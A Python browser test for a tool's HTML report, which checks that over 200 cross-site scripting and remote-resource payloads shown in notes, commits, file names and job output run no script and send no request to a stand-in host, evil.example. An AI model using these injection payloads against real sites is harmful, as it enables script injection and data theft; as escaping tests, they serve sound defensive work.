#!/usr/bin/env python3
"""Opens pages in a real browser: they must send no request, run no script, fit every width and be readable.

    page.py RUNNER [FOLDER_FOR_PICTURES]

Runs a night over notes, commits, file names and program output that contain markup, and opens the page in Chromium.
Every host name resolves to a listener in this script, which records each request. As a control, a page with the same
payloads without escaping must send requests and run scripts. Without Chromium, the check is skipped and recorded.
"""

import html
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(Path(__file__).resolve().parent))
import page_layout as layout  # noqa: E402
from skips import skip  # noqa: E402

RUNNER = Path(sys.argv[1]).resolve()
PICTURES = Path(sys.argv[2]).resolve() if len(sys.argv) > 2 else None
CHROMIUM = next(filter(None, map(shutil.which, ["chromium", "chromium-browser", "google-chrome"])), None)
if not CHROMIUM:
    skip("chromium", "1: there is no chromium")
    sys.exit(0)

DEEDS = [
    "document.documentElement.dataset.ran=1",
    "fetch('http://evil.example/f')",
    "new Image().src='http://evil.example/i'",
    "location='http://evil.example/l'",
    "document.title='RAN'",
    "eval('document.documentElement.dataset.ran=2')",
]
SHAPES = [
    "<script>{}</script>", "</script><script>{}</script>", "</style><script>{}</script>",
    "</title><script>{}</script>", "--><script>{}</script><!--", "\"><script>{}</script>",
    "'><img src=x onerror={}>", "<img src=x onerror={}>", "<svg onload={}>", "</desc></svg><svg onload={}>",
    "<body onload={}>", "<iframe srcdoc=\"<script>{}</script>\"></iframe>", "<iframe src=\"javascript:{}\"></iframe>",
    "<details open ontoggle={}>x</details>", "</summary></details><details open ontoggle={}>x",
    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<marquee onstart={}>x</marquee>",
    "<style onload={}></style>", "<object data=\"data:text/html,<script>{}</script>\"></object>",
    "<math><mtext></mtext><script>{}</script></math>", "<select autofocus onfocus={}></select>",
    "<a href=\"javascript:{}\" autofocus>x</a>", "<audio src=x onerror={}></audio>",
]
REMOTE = [
    "<img src=http://evil.example/img>", "<link rel=stylesheet href=http://evil.example/css>",
    "<link rel=prefetch href=http://evil.example/pre>", "<link rel=preconnect href=http://evil.example>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/meta\">", "<base href=http://evil.example/>",
    "<style>@import url(http://evil.example/import);</style>", "<iframe src=http://evil.example/frame></iframe>",
    "<video poster=http://evil.example/poster></video>", "<object data=http://evil.example/object></object>",
    "<embed src=http://evil.example/embed>", "<svg><image href=http://evil.example/image /></svg>",
    "<svg><use href=http://evil.example/use#x /></svg>", "<p style=\"background:url(http://evil.example/bg)\">x</p>",
    "<script src=http://evil.example/js></script>", "![x](http://evil.example/md.png)",
    "[x]: http://evil.example 't'", "<audio src=http://evil.example/audio autoplay></audio>",
    "<input type=image src=http://evil.example/input>", "<body background=http://evil.example/body>",
    "<img srcset=\"http://evil.example/set 1x\">", "<track src=http://evil.example/track>",
    "<img src=//evil.example/slashes>", "<IMG SRC=\"http:&#47;&#47;evil.example/entity\">",
    "<form action=http://evil.example/form><button autofocus>x</button></form>", "<frameset onload=alert(1)>",
    "\"><img src=http://evil.example/quote>", "'><img src=http://evil.example/apostrophe>",
    "`><img src=http://evil.example/backtick>", "</textarea><img src=http://evil.example/textarea>",
    "</noscript><img src=http://evil.example/noscript>", "]]><img src=http://evil.example/cdata>",
    "<!--><img src=http://evil.example/comment>", "<![CDATA[<img src=http://evil.example/cdata2>",
    "<%00img src=http://evil.example/nul>", "<img/src=http://evil.example/slash>",
    "<svg><style>@import 'http://evil.example/svgstyle';</style></svg>",
    "<svg><a href=http://evil.example/a><text y=9>x</text></a></svg>",
    "<template><img src=http://evil.example/template></template>",
    "<picture><source srcset=http://evil.example/picture><img></picture>",
    "<table background=http://evil.example/table><tr><td>x</td></tr></table>",
    "<div style=\"content:url(http://evil.example/content)\">x</div>",
    "<link rel=icon href=http://evil.example/icon>", "<link rel=manifest href=http://evil.example/manifest>",
    "<link rel=preload as=image href=http://evil.example/preload>",
    "<link rel=modulepreload href=http://evil.example/module>",
    "<link rel=dns-prefetch href=http://evil.example>", "<script type=module src=http://evil.example/mjs></script>",
    "<applet code=http://evil.example/applet></applet>", "<bgsound src=http://evil.example/bgsound>",
    "<isindex action=http://evil.example/isindex>", "<layer src=http://evil.example/layer></layer>",
    "<xml src=http://evil.example/xml></xml>", "<img dynsrc=http://evil.example/dynsrc>",
    "<img lowsrc=http://evil.example/lowsrc>", "<portal src=http://evil.example/portal></portal>",
]
PAYLOADS = [shape.replace("{}", deed) for shape in SHAPES for deed in DEEDS] + REMOTE
assert len(PAYLOADS) >= 200 and len(set(PAYLOADS)) == len(PAYLOADS), len(PAYLOADS)


class Listener(http.server.BaseHTTPRequestHandler):
    heard = []

    def do_GET(self):
        Listener.heard.append(f"{self.headers.get('Host')} {self.path}")
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_CONNECT = do_GET

    def log_message(self, *_):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
threading.Thread(target=server.serve_forever, daemon=True).start()


def chromium(scratch, *args):
    flags = [
        CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--hide-scrollbars",
        "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-extensions",
        "--allow-file-access-from-files", f"--user-data-dir={scratch}/chromium",
        f"--host-resolver-rules=MAP * 127.0.0.1:{server.server_port}",
    ]
    done = subprocess.run([*flags, *args], capture_output=True, text=True, timeout=180, check=False)
    return done.stdout


def opened(scratch, page):
    """Returns the requests of a page, and its DOM after its scripts have run."""
    Listener.heard.clear()
    dom = chromium(scratch, "--virtual-time-budget=4000", "--dump-dom", page.as_uri())
    assert "</html>" in dom, f"{page} was not opened: {dom[:300]!r}"
    return [line for line in Listener.heard if "evil.example" in line], dom


def begun(scratch, name):
    """Creates a project. Returns it with a function that runs commands in it."""
    project = scratch / name
    project.mkdir()
    env = {
        "RUNNER_CONFIG__TRUST__PATHS": '["/"]', "PATH": os.environ["PATH"], "HOME": str(scratch), "XDG_STATE_HOME": str(scratch / "state"), "TZ": "UTC",
        "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.org", "GIT_COMMITTER_NAME": "a",
        "GIT_COMMITTER_EMAIL": "a@example.org", "GIT_CONFIG_NOSYSTEM": "1",
    }

    def run(*words, codes=(0,)):
        done = subprocess.run(words, cwd=project, env=env, capture_output=True, text=True, check=False)
        assert done.returncode in codes, (words, done.returncode, done.stderr)
        return done.stdout

    run("git", "init", "--quiet")
    run(RUNNER, "init", "--quiet")
    return project, run


def large(scratch):
    """Returns the page of a night with many runs and undecided proposals, and the number of each."""
    project, run = begun(scratch, "large")
    with open(project / "runner.toml", "a", encoding="utf-8") as config:
        config.write('\n[jobs.dream]\nmax_ideas = 500\nquiet_minutes = 0\n[jobs.dream.budget]\nideas = 500\n')
        config.write('[night.budget]\ncalls = 5000\n[day.budget]\ncalls = 5000\n')
        for number in range(499):
            script = "echo the disk was full >&2; exit 1" if number % 50 == 7 else "echo it was quiet"
            config.write(f'[jobs.job-{number}]\nkind = "command"\ntrigger = "night"\nprogram = "sh"\nargs = ["-c", "{script}"]\nretries = 0\n')
    ideas = project / "ideas"
    ideas.mkdir(exist_ok=True)
    for number in range(200):
        (ideas / f"export-{number}.md").write_text(f"# Export number{number} as a table\n\nAdd export number{number} as a table.\n")
        run("git", "commit", "--quiet", "--allow-empty", "-m", f"Add export number{number} as a table")
    run(RUNNER, "night", "--quiet", codes=(0, 1))
    told = json.loads(run(RUNNER, "report", "--json"))
    waiting = sum(it["decided"] is None and it["action"] != "keep" for it in told["proposals"])
    return run(RUNNER, "report", "--html"), len(told["runs"]), waiting


def time_to_open(scratch, page):
    """Returns the milliseconds from the request to the complete layout, and the page's height: the best of three."""
    frame, times = scratch / "timed.html", []
    frame.write_text(
        "<!DOCTYPE html><body><script>const began=performance.now(),f=document.createElement('iframe');"
        "f.style='border:0;width:1280px;height:1400px';f.onload=()=>{const high=f.contentDocument.documentElement.scrollHeight;"
        "document.documentElement.dataset.took=(performance.now()-began).toFixed(0)+' '+high};"
        f"f.src='{page.as_uri()}';document.body.append(f)</script>"
    )
    for _ in range(3):
        dom = chromium(scratch, "--dump-dom", "--timeout=20000", frame.as_uri())
        found = re.search(r'data-took="(\d+) (\d+)"', dom)
        assert found, dom[:300]
        times.append((int(found[1]), int(found[2])))
    return min(times)


def night(scratch):
    project, run = begun(scratch, "project")
    with open(project / "runner.toml", "a", encoding="utf-8") as config:
        config.write('\n[jobs.dream]\nmax_ideas = 500\nquiet_minutes = 0\n[jobs.dream.budget]\nideas = 500\n')
        for number in range(0, len(PAYLOADS), 25):
            config.write(f'[jobs.words{number}]\nkind = "command"\nprogram = "sh"\n')
            config.write(f'args = ["-c", "cat words{number} >&2; exit 1"]\n')
            (project / f"words{number}").write_text("\n".join(PAYLOADS[number : number + 25]))
    ideas = project / "ideas"
    ideas.mkdir(exist_ok=True)
    for number, payload in enumerate(PAYLOADS):
        plain = payload.replace("/", "\u2215")[:120]
        (ideas / f"{number} {plain}.md").write_text(f"# Export number{number} {payload}\n\nAdd it: {payload}\n")
        if number % 4 == 0:
            run("git", "commit", "--quiet", "--allow-empty", "-m", f"Add export number{number} {payload}")
    run(RUNNER, "night", "--quiet", codes=(0, 1))
    page = run(RUNNER, "report", "--html")
    return page, run(RUNNER, "report", "--md")


def pages(scratch):
    """Yields other pages: the demo's night and journal, a failed night, an overnight run, and a night without work."""

    def kept(name, text):
        page = scratch / f"{name}.html"
        page.write_text(text)
        return page

    project, run = begun(scratch, "around")
    run(RUNNER, "demo", "../demo")
    yield kept("demo", run(RUNNER, "-C", "../demo", "report", "--html"))
    run(RUNNER, "-C", "../demo", "journal", "export", "../rem")
    yield (scratch / "rem/index.html").rename(scratch / "journal.html")
    project, run = begun(scratch, "failed")
    (project / "runner.toml").open("a", encoding="utf-8").write(
        '\n[backends.mine]\ntype = "claude"\nprogram = "an-agent-that-nobody-installed-on-this-machine"\n'
        '[jobs.dream]\nbackend = "mine"\n[jobs.ask]\nkind = "prompt"\nprompt = "?"\nto = "notes/a.md"\nbackend = "mine"\n'
        '[jobs.tests]\nkind = "command"\nprogram = "sh"\nargs = ["-c", "echo x > ../outside"]\nretries = 0\n'
        '[jobs.slow]\nkind = "command"\nprogram = "sleep"\nargs = ["60"]\ntimeout = "1s"\nretries = 0\n'
        '[jobs.after-a-job-with-a-long-name]\nkind = "command"\nprogram = "true"\ntrigger = "after tests"\n'
    )
    (project / "ideas/a.md").write_text("# A\n\nMaybe a shorter name?\n")
    run(RUNNER, "night", "--quiet", codes=(1, 69))
    yield kept("failed", run(RUNNER, "report", "--html"))
    project, run = begun(scratch, "overnight")
    with open(project / "runner.toml", "a", encoding="utf-8") as config:
        config.write('\n[jobs.dream]\nenabled = false\n[jobs.long]\nkind = "overnight"\n')
    learnings = project / ".agents/learnings"
    learnings.mkdir(parents=True)
    for number in range(6):
        words = " ".join(f"lesson{number}word{at}" for at in range(60))
        (learnings / f"2026-10-0{number + 1}-lesson.md").write_text(
            f"---\ndate: 2026-10-0{number + 1}\nmaturity: provisional\nutility: 0.6\ntags: [ci]\n---\n# Lesson {number}\n\n{words}\n"
        )
    run(RUNNER, "night", "--quiet", codes=(0, 1))
    yield kept("overnight", run(RUNNER, "report", "--html"))
    project, run = begun(scratch, "quiet")
    run(RUNNER, "night", "--quiet")
    yield kept("quiet", run(RUNNER, "report", "--html"))


with tempfile.TemporaryDirectory(prefix="runner-page-") as folder:
    scratch = Path(folder)
    # The control does not escape the payloads, and omits those that would leave the page.
    control = scratch / "control.html"
    tries = [shape.replace("{}", DEEDS[0]) for shape in SHAPES[:8]], [line for line in REMOTE if line.startswith("<img")]
    ran, left = 0, []
    for lines in tries:
        control.write_text("<!DOCTYPE html><html><body>" + "\n".join(lines) + "</body></html>")
        heard, dom = opened(scratch, control)
        ran += "data-ran" in dom
        left += heard
    assert ran and left, f"the control proves nothing: ran {ran}, left {len(left)}"

    text, markdown = night(scratch)
    page = scratch / "report.html"
    page.write_text(text)
    seen = html.unescape(text)
    shown = sum(f"number{number} " in seen or f"ideas/{number} " in seen for number in range(len(PAYLOADS)))
    assert shown >= 200, f"only {shown} payloads are in the page"
    heard, dom = opened(scratch, page)
    assert not heard, f"requests left: {heard[:5]}"
    assert "data-ran" not in dom and "<title>RAN" not in dom and "<script" not in dom.lower(), "a script ran"
    assert dom.count("<style") == 1 and dom.count('<meta http-equiv=') == 1
    print(f"page: {shown} payloads shown, no script ran and no request left; without escaping, scripts ran and {len(left)} requests left")

    text, runs, waiting = large(scratch)
    assert runs >= 500 and waiting >= 200, f"{runs} runs, {waiting} undecided proposals"
    big = scratch / "large.html"
    big.write_text(text)
    took, high = time_to_open(scratch, big)
    print(f"page of {runs} runs and {waiting} proposals: {len(text)} bytes, open after {took} ms, {high} px high at 1280")
    assert took < 1000, "it takes more than a second to open"

    for page in [page, big, *pages(scratch)]:
        print(layout.check(chromium, scratch, page, PICTURES))
